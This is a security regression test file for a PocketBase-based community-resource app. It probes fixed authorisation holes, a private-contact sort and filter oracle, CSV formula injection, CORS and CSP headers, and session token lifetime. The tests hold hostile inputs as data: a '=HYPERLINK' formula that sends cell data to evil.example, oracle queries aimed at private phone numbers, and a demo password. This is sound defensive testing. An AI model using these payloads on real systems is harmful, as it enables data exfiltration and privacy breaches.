/**
 * The holes of issue #15, each probed the way an attacker would against a real PocketBase with
 * the demo city, and each refused (every test here failed on the code before the fix):
 * coordinators crossing district lines on organisations, forged council coordinators, forged
 * or hostile suggestion fields, the private-relation sort/filter/expand oracle (REST and
 * realtime), e-mails in change-log entries, formula injection in the open-data CSV, CORS `*`,
 * missing security headers and 5-day tokens.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportCommand } from '../../src/cli/commands/export';
import { Gateway } from '../../src/lib/data-access/gateway';
import { startServer, type TestServer } from '../helpers/server';
import { anonymous, signInStaff, signInSuperuser, type ApiClient, type ListBody } from './api';
import { runCliJson } from './run-cli';

const DEMO_PASSWORD = 'sasaeai-demo';
type Rec = Record<string, unknown> & { id: string };

let server: TestServer;
let anon: ApiClient;
let su: ApiClient;
let admin: ApiClient;
let coord: ApiClient;
let coord2: ApiClient;
let careManager: ApiClient;
let publicPlace: Rec;

async function all(collection: string, filter = ''): Promise<Rec[]> {
  const f = filter ? `&filter=${encodeURIComponent(filter)}` : '';
  const res = await su.get<ListBody<Rec>>(
    `/api/collections/${collection}/records?perPage=1000&skipTotal=1${f}`,
  );
  expect(res.status).toBe(200);
  return res.body.items;
}

async function one(collection: string, id: string): Promise<Rec> {
  return (await su.get<Rec>(`/api/collections/${collection}/records/${id}`)).body;
}

const own = (c: ApiClient): string[] => c.record.districts as string[];

beforeAll(async () => {
  server = await startServer();
  anon = anonymous(server.url);
  su = await signInSuperuser(server);
  // Many anonymous suggestions are probed here; the rate limit itself is tested in suggestions.test.ts.
  expect((await su.patch('/api/settings', { rateLimits: { enabled: false } })).status).toBe(200);
  ({ admin, coord, coord2, careManager } = await signInStaff(server.url));
  publicPlace = (await all('resources', 'is_public = true && status = "active"'))[0]!;
}, 60_000);

afterAll(async () => {
  await server?.stop();
});

describe('organisations stay inside a coordinator’s districts', () => {
  let foreign: string;
  beforeAll(async () => {
    foreign = (await all('areas', 'kind = "district"')).find((d) => !own(coord).includes(d.id))!.id;
  });

  it('a coordinator cannot create one in another district, nor a city-wide one', async () => {
    const before = (await all('organizations')).length;
    expect(
      (
        await coord.post('/api/collections/organizations/records', {
          name: '越境団体',
          type: 'npo',
          district: foreign,
        })
      ).status,
    ).toBe(400);
    expect(
      (
        await coord.post('/api/collections/organizations/records', {
          name: '全市団体',
          type: 'npo',
        })
      ).status,
    ).toBe(400);
    expect((await all('organizations')).length).toBe(before);
    // …but may create one in their own district
    const ok = await coord.post<Rec>('/api/collections/organizations/records', {
      name: '地元団体',
      type: 'npo',
      district: own(coord)[0],
    });
    expect(ok.status).toBe(200);
  });

  it('a coordinator cannot move their own organisation, or a city-wide one, into another district', async () => {
    const mine = (await all('organizations', `district = "${own(coord)[0]}"`))[0]!;
    expect(
      (
        await coord.patch(`/api/collections/organizations/records/${mine.id}`, {
          district: foreign,
        })
      ).status,
    ).toBe(404);
    expect((await one('organizations', mine.id)).district).toBe(mine.district);

    const cityWide = (
      await su.post<Rec>('/api/collections/organizations/records', {
        name: '市全域の会',
        type: 'other',
      })
    ).body;
    expect(
      (
        await coord.patch(`/api/collections/organizations/records/${cityWide.id}`, {
          district: foreign,
        })
      ).status,
    ).toBe(404);
    expect(
      (
        await coord.patch(`/api/collections/organizations/records/${cityWide.id}`, {
          district: own(coord)[0],
        })
      ).status,
    ).toBe(404);
    expect((await one('organizations', cityWide.id)).district).toBe('');
    // admins may
    expect(
      (
        await admin.patch(`/api/collections/organizations/records/${cityWide.id}`, {
          district: foreign,
        })
      ).status,
    ).toBe(200);
  });
});

describe('a council’s coordinator is a coordinator of its district', () => {
  let council: Rec;
  beforeAll(async () => {
    council = (await all('councils', `layer = 2 && district = "${own(coord)[0]}"`))[0]!;
  });

  it('a coordinator cannot name someone else, but may name themselves', async () => {
    for (const other of [coord2.record.id, careManager.record.id, admin.record.id]) {
      expect(
        (
          await coord.patch(`/api/collections/councils/records/${council.id}`, {
            coordinator: other,
          })
        ).status,
      ).toBe(404);
    }
    expect((await one('councils', council.id)).coordinator).toBe(council.coordinator);
    expect(
      (
        await coord.patch(`/api/collections/councils/records/${council.id}`, {
          coordinator: coord.record.id,
        })
      ).status,
    ).toBe(200);
  });

  it('even an admin cannot name a user who is no coordinator of that district', async () => {
    for (const other of [coord2.record.id, careManager.record.id]) {
      const res = await admin.patch<{ data: Record<string, unknown> }>(
        `/api/collections/councils/records/${council.id}`,
        { coordinator: other },
      );
      expect(res.status).toBe(400);
      expect(Object.keys(res.body.data)).toEqual(['coordinator']);
    }
    expect((await one('councils', council.id)).coordinator).toBe(coord.record.id);
  });
});

describe('suggestions: residents set only their own fields, staff only the handling', () => {
  const base = () => ({
    resource: publicPlace.id,
    topic: 'schedule',
    message: '第3水曜日にも開いています。',
  });
  const post = (body: unknown) =>
    anon.post<{ data?: Record<string, unknown> }>('/api/collections/suggestions/records', body);

  it('refuses handled_at, handled_by, status and a client-chosen id', async () => {
    const count = (await all('suggestions')).length;
    for (const extra of [
      { handled_at: '2020-01-01 00:00:00.000Z' },
      { handled_by: admin.record.id },
      { status: 'accepted' },
      { id: 'chosenbyclient1' },
      { district: own(coord)[0] },
      { created: '2001-01-01 00:00:00.000Z' },
    ]) {
      expect((await post({ ...base(), ...extra })).status, JSON.stringify(extra)).toBe(400);
    }
    expect((await all('suggestions')).length).toBe(count);
  });

  it('refuses an array for resource or topic, and a message without visible text', async () => {
    const arrays = await post({
      ...base(),
      resource: [publicPlace.id, publicPlace.id],
      topic: ['cost', 'place'],
    });
    expect(arrays.status).toBe(400);
    expect(Object.keys(arrays.body.data ?? {}).sort()).toEqual(['resource', 'topic']);
    for (const message of [
      '\u200b\u200b\u200b\u200b\u200b\u200b',
      '\u0000\u0000\u0000\u0000\u0000\u0000',
      ' \u3000\u200d\ufeff \u2060\t\n ',
    ]) {
      const res = await post({ ...base(), message });
      expect(res.status, JSON.stringify(message)).toBe(400);
      expect(Object.keys(res.body.data ?? {})).toEqual(['message']);
    }
  });

  it('checks the same way whatever the body: batch, multipart form, urlencoded form', async () => {
    const count = (await all('suggestions')).length;
    const batch = await anon.post<{
      data: { requests: Record<string, { response: { data: Record<string, unknown> } }> };
    }>('/api/batch', {
      requests: [
        {
          method: 'POST',
          url: '/api/collections/suggestions/records',
          body: { ...base(), topic: ['cost', 'place'] },
        },
      ],
    });
    expect(batch.status).toBe(400);
    expect(Object.keys(batch.body.data.requests['0']!.response.data)).toEqual(['topic']);
    const form = new FormData();
    const params = new URLSearchParams();
    for (const [k, v] of [...Object.entries(base()), ['topic', 'place'], ['message', '\u200b']]) {
      form.append(k!, v!);
      params.append(k!, v!);
    }
    for (const body of [form, params]) {
      const res = await fetch(`${server.url}/api/collections/suggestions/records`, {
        method: 'POST',
        body,
      });
      expect(res.status).toBe(400);
      expect(Object.keys(((await res.json()) as { data: object }).data).sort()).toEqual([
        'message',
        'topic',
      ]);
    }
    expect((await all('suggestions')).length).toBe(count);
  });

  it('stores text without NUL, control or zero-width characters', async () => {
    const res = await post({
      ...base(),
      message: 'a\u0000b\u200bc\u202ed\u0007e 休みです\r\n次回',
      reporter_name: '山田\n花子\u200b',
    });
    expect(res.status).toBe(200);
    const stored = await one('suggestions', (res.body as unknown as Rec).id);
    expect(stored.message).toBe('abcde 休みです\n次回');
    expect(stored.reporter_name).toBe('山田 花子');
  });

  it('a coordinator cannot rewrite what the resident wrote, nor stamp the handling', async () => {
    const place = (
      await all(
        'resources',
        `is_public = true && status = "active" && district = "${own(coord)[0]}"`,
      )
    )[0]!;
    const created = (await post({ ...base(), resource: place.id })).body as unknown as Rec;
    const stored = await one('suggestions', created.id);
    const asCoord = coord;
    for (const change of [
      { message: '書き換え済みのメッセージ' },
      { topic: 'other' },
      { reporter_name: '別人' },
      { handled_at: '2020-01-01 00:00:00.000Z' },
    ]) {
      expect(
        (await asCoord.patch(`/api/collections/suggestions/records/${created.id}`, change)).status,
        JSON.stringify(change),
      ).toBe(404);
    }
    expect(await one('suggestions', created.id)).toEqual(stored);
    expect(
      (
        await asCoord.patch(`/api/collections/suggestions/records/${created.id}`, {
          status: 'accepted',
        })
      ).status,
    ).toBe(200);
  });
});

describe('no sort, filter or expand through what the caller may not read', () => {
  const resources = (c: ApiClient, query: string) =>
    c.get(`/api/collections/resources/records?perPage=5&${query}`);

  it('anonymous: the private-contact sort oracle and its filter/expand variants are refused', async () => {
    for (const query of [
      'sort=resource_contacts_via_resource.direct_phone',
      'sort=-resource_contacts_via_resource.person_in_charge',
      `filter=${encodeURIComponent('resource_contacts_via_resource.direct_phone != ""')}`,
      `filter=${encodeURIComponent('resource_contacts_via_resource.id ?= ""')}`,
      `filter=${encodeURIComponent('@collection.resource_contacts.resource ?= id')}`,
      `filter=${encodeURIComponent('suggestions_via_resource.message ~ "a"')}`,
      `filter=${encodeURIComponent('verified_by.name ~ "a"')}`,
      `filter=${encodeURIComponent("// it's a comment\nresource_contacts_via_resource.direct_phone != ''")}`,
      `filter=${encodeURIComponent('name != "http://x" && resource_contacts_via_resource.direct_phone != ""')}`,
      `filter=${encodeURIComponent('name != "a\\"b" && resource_contacts_via_resource.direct_phone != ""')}`,
      'expand=resource_contacts_via_resource',
      'expand=verified_by',
    ]) {
      expect((await resources(anon, query)).status, query).toBe(400);
    }
    const head = await fetch(
      `${server.url}/api/collections/resources/records?sort=resource_contacts_via_resource.direct_phone`,
      { method: 'HEAD' },
    );
    expect(head.status).toBe(400);
    // what the public may read still works
    expect(
      (
        await resources(
          anon,
          `filter=${encodeURIComponent('district.name != "" && organization.name != "x"')}&sort=district.name&expand=organization`,
        )
      ).status,
    ).toBe(200);
    expect(
      (
        await resources(
          anon,
          `filter=${encodeURIComponent('name = "resource_contacts_via_resource.direct_phone"')}`,
        )
      ).status,
    ).toBe(200);
  });

  it('a care manager may sort by contacts (they read them all) but not through suggestions', async () => {
    expect(
      (await resources(careManager, 'sort=resource_contacts_via_resource.direct_phone')).status,
    ).toBe(200);
    expect(
      (
        await resources(
          careManager,
          `filter=${encodeURIComponent('suggestions_via_resource.message ~ "a"')}`,
        )
      ).status,
    ).toBe(400);
    expect((await resources(coord, 'expand=suggestions_via_resource')).status).toBe(400);
  });

  it('anonymous realtime subscriptions through a private relation are refused', async () => {
    const controller = new AbortController();
    const stream = await fetch(`${server.url}/api/realtime`, { signal: controller.signal });
    const reader = stream.body!.getReader();
    let text = '';
    while (!/"clientId":"[^"]+"/.test(text))
      text += new TextDecoder().decode((await reader.read()).value);
    const clientId = /"clientId":"([^"]+)"/.exec(text)![1];
    const subscribe = (topic: string) =>
      fetch(`${server.url}/api/realtime`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ clientId, subscriptions: [topic] }),
      });
    const options = (query: Record<string, string>) =>
      `?options=${encodeURIComponent(JSON.stringify({ query }))}`;
    expect(
      (
        await subscribe(
          `resources${options({ filter: 'resource_contacts_via_resource.direct_phone ~ "090"' })}`,
        )
      ).status,
    ).toBe(400);
    expect(
      (await subscribe(`resources/*${options({ expand: 'resource_contacts_via_resource' })}`))
        .status,
    ).toBe(400);
    expect((await subscribe(`resources${options({ filter: 'district.name != ""' })}`)).status).toBe(
      204,
    );
    controller.abort();
  });
});

describe('the change log never holds an e-mail address', () => {
  it('creating and renaming a user logs neither its e-mail nor the admin’s', async () => {
    const created = await admin.post<Rec>('/api/collections/users/records', {
      email: 'new.staff@example.com',
      emailVisibility: false,
      password: 'a-long-password-1',
      passwordConfirm: 'a-long-password-1',
      name: '新しい職員',
      role: 'care_manager',
    });
    expect(created.status).toBe(200);
    expect(
      (
        await admin.patch(`/api/collections/users/records/${created.body.id}`, {
          name: '改名した職員',
          email: 'renamed.staff@example.com',
        })
      ).status,
    ).toBe(200);
    const entries = await all('change_log', `record_id = "${created.body.id}"`);
    expect(entries.map((e) => e.action).sort()).toEqual(['create', 'update']);
    const text = JSON.stringify(entries);
    expect(text).not.toContain('@example.com');
    expect(text).not.toMatch(/"(email|password|tokenKey|passwordConfirm)"/);
    expect(text).toContain('改名した職員');
  });
});

describe('the open-data CSV defuses spreadsheet formulas', () => {
  it('a place named =HYPERLINK(...) is exported as text', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"詳しく")';
    expect(
      (
        await admin.patch(`/api/collections/resources/records/${publicPlace.id}`, {
          name: evil,
          description: '@SUM(1+1)',
        })
      ).status,
    ).toBe(200);
    const dir = mkdtempSync(join(tmpdir(), 'sasaeai-csv-'));
    try {
      const { code } = await runCliJson(exportCommand, [
        '--format',
        'csv',
        '--url',
        server.url,
        '--out',
        join(dir, 'p.csv'),
        '--json',
      ]);
      expect(code).toBe(0);
      const csv = readFileSync(join(dir, 'p.csv'), 'utf8');
      const line = csv.split('\r\n').find((l) => l.includes(publicPlace.id)) ?? '';
      expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""詳しく"")",`);
      expect(line).toContain(`,'@SUM(1+1)`);
      expect(csv).not.toMatch(/(^|,)"?[=@]/m);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('headers and sessions', () => {
  it('the API does not answer other origins with CORS headers', async () => {
    const res = await fetch(`${server.url}/api/collections/resources/records?perPage=1`, {
      headers: { Origin: 'https://evil.example' },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('access-control-allow-origin')).toBeNull();
    const preflight = await fetch(`${server.url}/api/collections/suggestions/records`, {
      method: 'OPTIONS',
      headers: { Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST' },
    });
    expect(preflight.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('pages and API answers carry a strict CSP; the admin UI keeps its own', async () => {
    for (const path of ['/', '/map', '/api/health']) {
      const res = await fetch(server.url + path);
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("default-src 'self'");
      expect(csp, path).toMatch(/script-src 'self'( 'sha256-[A-Za-z0-9+/=]+')*;/);
      expect(csp, path).not.toContain('unsafe-eval');
      expect(csp, path).toContain("frame-ancestors 'self'");
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
      expect(res.headers.get('permissions-policy')).toContain('camera=()');
    }
    const adminUi = await fetch(`${server.url}/_/`);
    expect(adminUi.status).toBe(200);
    expect(adminUi.headers.get('content-security-policy')).toContain(
      "script-src 'self' http://127.0.0.1:*",
    );
  });

  it('only the embeddable views (/embed/) may be framed by other sites', async () => {
    const district = (await all('areas')).find((a) => a.kind === 'district')!;
    // Headers only: the integration project does not build the web app, so the page itself may
    // be missing here (404); the policy is the same either way.
    const embed = await fetch(
      `${server.url}/embed/districts/${district.id as string}?kinds=gathering_place`,
    );
    const csp = embed.headers.get('content-security-policy') ?? '';
    expect(csp).toContain('frame-ancestors *');
    expect(csp).toContain("default-src 'self'");
    for (const path of ['/', '/embedded', `/districts/${district.id as string}`, '/admin/users']) {
      expect(
        (await fetch(server.url + path)).headers.get('content-security-policy'),
        path,
      ).toContain("frame-ancestors 'self'");
    }
  });

  it('the CSP allows the GSI tile origin only when the site chooses the GSI basemap', async () => {
    const csp = async () =>
      (await fetch(`${server.url}/map`)).headers.get('content-security-policy') ?? '';
    expect(await csp()).not.toContain('cyberjapandata.gsi.go.jp');
    // the site's `basemap` field (added by another change) is read when it exists
    const collection = (await su.get<{ fields: unknown[] }>('/api/collections/site')).body;
    const fields = [
      ...collection.fields,
      { type: 'select', name: 'basemap', values: ['none', 'gsi', 'pmtiles'], maxSelect: 1 },
    ];
    expect((await su.patch('/api/collections/site', { fields })).status).toBe(200);
    const site = (await all('site'))[0]!;
    expect(
      (await su.patch(`/api/collections/site/records/${site.id}`, { basemap: 'gsi' })).status,
    ).toBe(200);
    expect(await csp()).toMatch(/img-src [^;]*https:\/\/cyberjapandata\.gsi\.go\.jp/);
    expect(await csp()).toMatch(/connect-src [^;]*https:\/\/cyberjapandata\.gsi\.go\.jp/);
    expect(
      (await su.patch(`/api/collections/site/records/${site.id}`, { basemap: 'none' })).status,
    ).toBe(200);
    expect(await csp()).not.toContain('cyberjapandata.gsi.go.jp');
  });

  it('a staff session token lives 2 hours, and refreshing gives a new one', async () => {
    const claims = JSON.parse(Buffer.from(coord.token.split('.')[1]!, 'base64url').toString()) as {
      exp: number;
      iat?: number;
    };
    const lifetimeS = claims.exp - Math.floor(Date.now() / 1000);
    expect(lifetimeS).toBeGreaterThan(2 * 3600 - 120);
    expect(lifetimeS).toBeLessThanOrEqual(2 * 3600);
    expect((await coord.post('/api/collections/users/auth-refresh', {})).status).toBe(200);
    // the app's gateway refreshes the same way (the session state calls it while the user is active)
    const gateway = new Gateway(server.url);
    await gateway.login('coordinator@example.com', DEMO_PASSWORD);
    expect(gateway.sessionSecondsLeft()).toBeGreaterThan(2 * 3600 - 120);
    await gateway.refreshSession();
    expect(gateway.user?.id).toBe(coord.record.id);
    expect(gateway.sessionSecondsLeft()).toBeGreaterThan(2 * 3600 - 120);
  });
});
